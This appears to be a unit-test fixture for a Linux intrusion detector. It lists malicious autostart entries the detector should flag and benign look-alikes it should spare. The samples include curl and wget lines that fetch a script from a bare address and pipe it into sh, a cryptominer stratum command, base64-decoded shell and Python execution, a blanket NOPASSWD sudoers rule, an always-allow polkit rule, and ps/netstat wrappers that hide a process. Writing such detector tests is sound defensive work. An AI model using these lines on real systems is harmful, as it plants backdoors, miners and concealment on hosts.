"""Samples of what autostarts say and come to: intruders' entries, and the owners' that look alike."""

from __future__ import annotations

from typing import Any, Final

import msgspec
from tests.unit.detect.sample import Sample
from tests.unit.snapshots import (
    TAKEN,
    Fact,
    authorized_key,
    content_hit,
    cron,
    executable,
    followed,
    service,
    snapshot,
    tool,
)

from davy.model.autostarts import Autostart, AutostartKind, Step
from davy.model.content import Place
from davy.model.facts import Executable
from davy.model.tools import Tampering

_BACKUP: Final = cron("/usr/local/bin/backup", user="root", line=7)
_UNIT: Final = service("/usr/local/sbin/updated -q", unit="updated.service")
_CRONTAB: Final = "/etc/crontab"
_KEY: Final = "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 "
_INSTALLER: Final = "curl -fsSL https://get.example.org/agent.sh | sh"
_DROPPED: Final = "curl -fsSL http://192.0.2.7/x.sh | sh"


def stranger(path: str, **changes: Any) -> Executable:
    """A program of nobody's package."""
    return msgspec.structs.replace(executable(path, owner_package=None), **changes)


def _of(autostart: Autostart, rule: str, what: str, *facts: Fact) -> Sample:
    return Sample(rule, what, snapshot(autostart, *facts), autostart.subject)


def _none(rule: str, what: str, *facts: Fact) -> Sample:
    return Sample(rule, what, snapshot(*facts))


_PROGRAM: Final = stranger("/usr/local/sbin/updated")
_APPENDED: Final = cron(_DROPPED, path=_CRONTAB, line=5, owner_package="cron", unmodified=False)


def _entry(kind: AutostartKind, command: str) -> Autostart:
    return Autostart(kind=kind, path="/etc/entry", line=1, text=command, command=command)


def _container(image: str) -> Autostart:
    return Autostart(kind=AutostartKind.CONTAINER, path="/etc/x.container", command="run", image=image)


TAMPERED: Final = (
    tool("/usr/bin/ps", Tampering.WRAPPED, text='#!/bin/sh\n/usr/bin/.ps "$@" | grep -v kinsing\n'),
    tool("/usr/bin/ls", Tampering.WRAPPED, text='#!/bin/sh\nexec /usr/bin/ls.real "$@"\n'),
    tool("/usr/bin/top", Tampering.REPLACED),
    tool("/usr/bin/wget", Tampering.REPLACED),
    tool("/usr/bin/curl", Tampering.RENAMED, renamed_to="/usr/bin/cur"),
    tool("/usr/bin/chattr", Tampering.LOCKED),
    tool("/usr/bin/lsof", Tampering.MISSING),
    tool("/usr/local/bin/netstat", Tampering.SHADOWED, text="#!/bin/sh\n/bin/netstat $@ | grep -v 3333\n"),
    tool("/usr/local/bin/htop", Tampering.SHADOWED),
)

MATCHING: Final = (
    _of(_APPENDED, "persistence.suspicious-autostart", "a line that was added to a package's crontab"),
    _of(
        _BACKUP,
        "persistence.suspicious-autostart",
        "a script that fetches and runs",
        followed(_BACKUP, "/usr/local/bin/backup", text=f"rsync -a / b:/\n{_DROPPED}", step=Step.SCRIPT),
    ),
    _of(
        _BACKUP,
        "persistence.suspicious-autostart",
        "a script's line that runs a hidden program where anyone may write",
        followed(_BACKUP, "/usr/local/bin/backup", text="set -e\nnohup /tmp/.x/a &", step=Step.SCRIPT),
    ),
    _of(
        _BACKUP,
        "persistence.suspicious-autostart",
        "a script's line that runs a family's file where anyone may write",
        followed(_BACKUP, "/usr/local/bin/backup", text="set -e\n/var/tmp/kinsing &", step=Step.SCRIPT),
    ),
    _of(_APPENDED, "network.autostart", "a program from a bare address"),
    _of(
        _BACKUP,
        "network.autostart",
        "the same in what is decoded",
        followed(_BACKUP, text=_DROPPED, step=Step.DECODED),
    ),
    _of(line := cron("/tmp/.X19-unix/a"), "origin.autostart", "a hidden program where anyone may write"),
    _of(line := cron("/opt/x -o stratum+tcp://192.0.2.1:3333 -u w"), "content.autostart", "a miner's command"),
    _of(line := cron("echo Y3VybCB4 | base64 -d | sh"), "concealment.autostart", "a decoded text"),
    _of(line := authorized_key(_KEY + "mdrfckr"), "persistence.intruders-key", "a family's key"),
    _of(line := authorized_key(_KEY + "mdrfckr"), "identity.key", "a family's key"),
    _of(
        _BACKUP,
        "identity.autostart",
        "a family's path in a script",
        followed(_BACKUP, "/var/tmp/kinsing", step=Step.SCRIPT),
    ),
    _of(
        line := cron("/usr/sbin/kswapd0 -q"),
        "identity.imitating-autostart",
        "a kernel thread's name",
        followed(line, "/usr/sbin/kswapd0", stranger("/usr/sbin/kswapd0")),
    ),
    _of(
        line := cron("/usr/sbin/systemd-jourmald"),
        "identity.imitating-autostart",
        "a letter away from a daemon",
        followed(line, "/usr/sbin/systemd-jourmald", stranger("/usr/sbin/systemd-jourmald")),
    ),
    _of(
        line := cron("/var/lib/misc/sshd"),
        "identity.imitating-autostart",
        "a daemon's name where none is installed",
        followed(line, "/var/lib/misc/sshd", stranger("/var/lib/misc/sshd")),
    ),
    _of(
        _UNIT,
        "persistence.missing-program",
        "a unit whose program is gone",
        followed(_UNIT, "/usr/local/sbin/updated"),
    ),
    _of(
        _UNIT,
        "origin.autostart-file",
        "a link into /dev/shm",
        followed(_UNIT, "/usr/local/sbin/updated", stranger("/dev/shm/.x/y")),
    ),
    _of(
        _UNIT,
        "origin.autostart-file",
        "a link to a hidden place",
        followed(_UNIT, "/usr/local/sbin/updated", stranger("/var/lib/.../oka")),
    ),
    _of(
        _UNIT,
        "origin.autostart-file",
        "a folder where anyone may write",
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM, folder_mode=0o777),
    ),
    _of(
        _BACKUP,
        "origin.autostart-file",
        "a script that runs what is hidden",
        followed(_BACKUP, "/var/lib/.x/oka", stranger("/var/lib/.x/oka"), step=Step.SCRIPT),
    ),
    _of(
        _BACKUP,
        "origin.autostart-file",
        "a program that anyone may change",
        followed(_BACKUP, "/usr/local/bin/backup", stranger("/usr/local/bin/backup", mode=0o100777)),
    ),
    Sample(
        "origin.autostart-file",
        "a program of nobody's among the distribution's",
        snapshot(
            line := cron("/usr/sbin/crondr"),
            cron("/usr/bin/true", path="/etc/cron.d/x", owner_package="x", unmodified=True),
            followed(line, "/usr/sbin/crondr", stranger("/usr/sbin/crondr")),
        ),
        line.subject,
    ),
    _of(
        _UNIT,
        "origin.autostart-file",
        "a program of yesterday",
        followed(_UNIT, "/usr/local/sbin/updated", stranger("/usr/local/sbin/updated", birth=TAKEN - 86_400)),
    ),
    _of(
        _UNIT,
        "content.autostart-file",
        "a miner that does not run",
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
        content_hit("miner.xmrig", "/usr/local/sbin/updated", of=_PROGRAM),
    ),
    _of(
        _UNIT,
        "persistence.starts-a-miner",
        "a miner that does not run",
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
        content_hit("miner.xmrig", "/usr/local/sbin/updated", of=_PROGRAM),
    ),
    _of(
        line := cron("/opt/xmrig/xmrig -c /etc/x.json", user="root"),
        "persistence.starts-a-miner",
        "a miner by its name, gone or not",
    ),
    _of(
        line := cron("/tmp/update.sh", user="root"),
        "origin.autostart-file",
        "root runs what anyone may change",
        followed(line, "/tmp/update.sh"),
    ),
    *(
        Sample("persistence.strange-entry", what, snapshot(entry), entry.subject)
        for what, entry in (
            ("a service that may do everything", _entry(AutostartKind.SUDOERS, "www-data ALL=(ALL) NOPASSWD: ALL")),
            (
                "a rule that asks nothing",
                _entry(
                    AutostartKind.POLKIT, "polkit.addRule(function(action, subject) { return polkit.Result.YES; });"
                ),
            ),
            ("a module of PAM in a home", _entry(AutostartKind.PAM, "/home/ada/pam_unix.so nullok")),
            (
                "a line that every Python decodes",
                _entry(AutostartKind.PYTHON, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
            ),
        )
    ),
    _of(
        line := cron("/usr/local/sbin/kdevtmpfsi"),
        "identity.autostart",
        "a program that is called as a family's",
    ),
    _of(
        _BACKUP,
        "identity.known-line",
        "a family's line in what is decoded",
        followed(_BACKUP, text="wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1", step=Step.DECODED),
    ),
    _of(
        line := _entry(AutostartKind.KERNEL_HELPER, "/usr/local/bin/core %p"),
        "persistence.strange-entry",
        "a core dump that nobody's program gets",
        followed(line, "/usr/local/bin/core", stranger("/usr/local/bin/core")),
    ),
    *(
        Sample("identity.image", image, snapshot(pod := _container(image)), pod.subject)
        for image in ("xmrig", "registry.example.org/tools/xmrig:6.21@sha256:00")
    ),
    *(
        Sample("concealment.system-tool", f"{each.path}, {each.tampering.value}", snapshot(each), each.subject)
        for each in TAMPERED
    ),
)

_VENDORS: Final = cron(_DROPPED, path=_CRONTAB, line=5, owner_package="cron", unmodified=True)
_HONEST_LINE: Final = cron("cd / && run-parts --report /etc/cron.hourly", path=_CRONTAB, owner_package="cron",
                           unmodified=False)  # fmt: skip

SPARED: Final = (
    _none(
        "persistence.strange-entry",
        "a core dump that a package's program gets",
        line := _entry(AutostartKind.KERNEL_HELPER, "/usr/lib/systemd/systemd-coredump %P"),
        followed(line, "/usr/lib/systemd/systemd-coredump", executable("/usr/lib/systemd/systemd-coredump")),
    ),
    _none("identity.image", "a web server", _container("docker.io/library/nginx:1.27")),
    _none("identity.image", "a registry that is called as a miner", _container("xmrig.example.org/web:1")),
    *(
        _none("persistence.strange-entry", what, _entry(kind, command))
        for what, kind, command in (
            ("an administrator", AutostartKind.SUDOERS, "ada ALL=(ALL) NOPASSWD:ALL"),
            ("one command of a service's", AutostartKind.SUDOERS, "www-data ALL=(root) NOPASSWD: /usr/bin/x"),
            (
                "a rule that asks for a group",
                AutostartKind.POLKIT,
                'polkit.addRule(function(a, s) { if (s.isInGroup("netdev")) { return polkit.Result.YES; } });',
            ),
            ("a vendor's module of PAM", AutostartKind.PAM, "/usr/lib/x86_64-linux-gnu/security/pam_x.so"),
            ("an owner's module of PAM", AutostartKind.PAM, "/usr/local/lib/security/pam_x.so"),
            ("a package's line for Python", AutostartKind.PYTHON, "import _virtualenv"),
        )
    ),
    _none("concealment.system-tool", "a host on which nothing is amiss", _UNIT),
    _none("persistence.suspicious-autostart", "the honest lines of a crontab that was changed", _HONEST_LINE),
    _none(
        "persistence.suspicious-autostart",
        "a script of an owner's that unpacks in /tmp",
        _BACKUP,
        followed(_BACKUP, "/usr/local/bin/backup", text="cd /tmp && ./configure\n/tmp/b/run", step=Step.SCRIPT),
    ),
    _none(
        "persistence.suspicious-autostart",
        "a script that a deployment carries encoded, and that unpacks in /tmp",
        _BACKUP,
        followed(_BACKUP, text="set -e\ncd /tmp\nmkdir b\ntar xf /srv/b.tar\n/tmp/b/run\ntrue\n", step=Step.DECODED),
        followed(_BACKUP, "/tmp/b/run", step=Step.DECODED),
    ),
    _none("network.autostart", "a package's own", _VENDORS),
    _none("network.autostart", "an installer by its name", cron(_INSTALLER)),
    _none("network.autostart", "a monitor's ping", cron("curl -fsS https://hc-ping.example.org/uuid > /dev/null")),
    _none("origin.autostart", "tools that live in hidden folders", cron("/root/.acme.sh/acme.sh --cron")),
    _none("content.autostart", "a line that ends miners", cron("pkill -f stratum; rm -f /tmp/kdevtmpfsi")),
    _none("concealment.autostart", "a secret that is decoded", cron("base64 -d /etc/s.b64 > /etc/s")),
    _none("persistence.intruders-key", "an owner's key", authorized_key(_KEY + "ada@example.org")),
    _none("persistence.intruders-key", "a cron line with the word", cron("echo mdrfckr")),
    _none("identity.key", "an owner's key", authorized_key(_KEY + "ada@example.org")),
    _none(
        "identity.imitating-autostart",
        "a daemon that its owner built",
        line := service("/usr/local/sbin/sshd -D", unit="ssh.service"),
        followed(line, "/usr/local/sbin/sshd", stranger("/usr/local/sbin/sshd")),
    ),
    _none(
        "identity.imitating-autostart",
        "the daemon itself",
        line := service("/usr/sbin/sshd -D", unit="ssh.service"),
        followed(line, "/usr/sbin/sshd", executable("/usr/sbin/sshd", unmodified=None)),
    ),
    _none(
        "persistence.missing-program", "a program that is there", _UNIT,
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
    ),
    _none(
        "persistence.missing-program", "what a script names and is not there", _UNIT,
        followed(_UNIT, "/opt/x", step=Step.SCRIPT),
    ),
    _none(
        "origin.autostart-file", "an owner's program", _UNIT, followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM)
    ),
    _none(
        "origin.autostart-file",
        "a tool of several versions at home",
        line := cron("/home/ada/bin/node x.js", user="ada"),
        followed(line, "/home/ada/bin/node", stranger("/home/ada/.versions/20/node")),
    ),
    _none(
        "content.autostart-file", "a hit in another file", _UNIT,
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
        content_hit("miner.xmrig", "/opt/x", of=stranger("/opt/x")),
    ),
    _none(
        "content.autostart-file", "a configuration where none is looked for", _UNIT,
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
        content_hit("configuration.xmrig", "/usr/local/sbin/updated", of=_PROGRAM, place=Place.FILE),
    ),
    _none("persistence.starts-a-miner", "an owner's clean-up", cron("pkill -9 xmrig; rm -f /tmp/xmrig", user="root")),
    _none(
        "origin.autostart-file", "a person tries a script", line := cron("/tmp/try.sh", user="ada"),
        followed(line, "/tmp/try.sh"),
    ),
    _none(
        "persistence.starts-a-miner", "a node of the coin, which checks blocks", _UNIT,
        followed(_UNIT, "/usr/local/sbin/updated", _PROGRAM),
        content_hit("algorithm.randomx", "/usr/local/sbin/updated", of=_PROGRAM),
    ),
)  # fmt: skip
